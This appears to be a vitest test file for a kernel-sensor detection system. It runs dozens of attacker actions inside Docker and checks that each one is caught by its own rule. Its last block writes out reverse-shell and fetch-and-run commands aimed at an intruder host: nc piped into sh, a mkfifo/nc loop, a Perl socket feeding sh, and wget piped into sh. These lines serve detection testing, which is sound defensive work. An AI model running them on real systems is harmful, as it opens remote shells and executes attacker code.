/** Every act of the list is done for real, and seen by the kernel's sensor and the rule that is about it. */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { has, requires } from "../world/needs.ts";
import { type Action, INTRUDER } from "./actions/action.ts";
import { OWN_RULE } from "./actions/expected.ts";
import { ACTIONS } from "./actions/index.ts";
import { ActsUnderWatch } from "./actions/under-watch.ts";

let acts: ActsUnderWatch | undefined;

beforeAll(async () => {
  if (has("docker") && has("sensor")) acts = await ActsUnderWatch.start();
});
afterAll(async () => {
  await acts?.[Symbol.asyncDispose]();
});
beforeEach((context) => {
  requires(context, "docker");
  requires(context, "sensor");
});

/** Does it under watch. @returns the rules that said something. */
async function seen(action: Action, script: string): Promise<readonly string[]> {
  if (acts === undefined) throw new Error("nobody watches");
  const { rules, output, changes } = await acts.see(action, script);
  if (action.shows !== undefined) expect(output).toMatch(action.shows);
  for (const path of action.changes ?? []) expect(changes).toContain(path);
  return rules.map(({ id }) => id);
}

test("names are told once, every act is seen by its effect, and has a rule of its own", () => {
  expect(new Set(ACTIONS.map(({ name }) => name)).size).toBe(ACTIONS.length);
  expect(ACTIONS.length).toBeGreaterThanOrEqual(64);
  expect(ACTIONS.filter(({ shows, changes }) => shows === undefined && changes === undefined)).toEqual([]);
  expect(ACTIONS.filter(({ name }) => OWN_RULE[name] === undefined)).toEqual([]);
  expect(new Set(Object.values(OWN_RULE)).size).toBe(ACTIONS.length);
});

describe("is done, and recognised by its own rule", { concurrent: true, timeout: 60_000 }, () => {
  for (const action of ACTIONS) {
    const own = OWN_RULE[action.name];
    test(action.name, async () => expect(await seen(action, action.script)).toContain(own));
    const { renamed } = action;
    if (renamed !== undefined) test(`${action.name}, renamed`, async () => expect(await seen(action, renamed)).toContain(own));
  }
});

test("of all of them at least 54 in 64 are alerts", () => {
  const alerts = new Set(acts?.rules.rules.filter(({ severity }) => severity !== "note" && severity !== "low").map(({ id }) => id));
  const alerted = ACTIONS.filter(({ name }) => alerts.has(OWN_RULE[name] ?? ""));
  expect(alerted.length / ACTIONS.length).toBeGreaterThanOrEqual(54 / 64);
});

describe("a shell at the end of a pipe is told by who holds the other", { concurrent: true, timeout: 60_000 }, () => {
  const [BY_TOOL, BY_CONNECTED, BY_DOWNLOAD] = ["shell-on-network-pipe", "shell-fed-from-network", "download-into-shell"];
  const connected = (port: number, then: string): string =>
    `perl -MSocket -e 'socket S, PF_INET, SOCK_STREAM, 0; connect S, sockaddr_in(${port}, inet_aton("${INTRUDER}")) or die; ${then}'`;
  const theirs = (name: string, script: string): Action => ({ name, script: `${script}; cat /tmp/owned`, shows: /owned by \d/ });
  const ours = `echo 'echo fine' | sh; nc -w 1 ${INTRUDER} 9 < /dev/null | sh -c 'read a; echo got $a'; ${connected(80, 'system("echo made; true")')}`;
  const cases: readonly (readonly [string | undefined, Action])[] = [
    [BY_TOOL, theirs("a network tool", `nc ${INTRUDER} 4444 | sh`)],
    [BY_TOOL, theirs("a network tool, and something between", `nc ${INTRUDER} 4444 | cat | sh`)],
    [BY_TOOL, theirs("a network tool, by a fifo and back", `busybox mkfifo /tmp/f; cat /tmp/f | sh | nc ${INTRUDER} 4444 > /tmp/f`)],
    [BY_CONNECTED, theirs("a program with a connection", connected(4444, 'open P, "|sh"; print P scalar <S>; close P'))],
    [BY_DOWNLOAD, { name: "a download tool", script: `(wget -qO- http://${INTRUDER}/x | sh) 2>&1; echo tried`, shows: /answer: .*not found\s+tried/ }],
    [undefined, { name: "no other: commands of their own, and texts of the build's own", script: ours, shows: /fine\s+got answer from port 9\s+made/ }],
  ];
  for (const [rule, action] of cases)
    test(action.name, async () => {
      const found = new Set(await seen(action, action.script));
      expect([BY_TOOL, BY_CONNECTED, BY_DOWNLOAD].filter((id) => id !== undefined && found.has(id))).toEqual(rule === undefined ? [] : [rule]);
    });
});
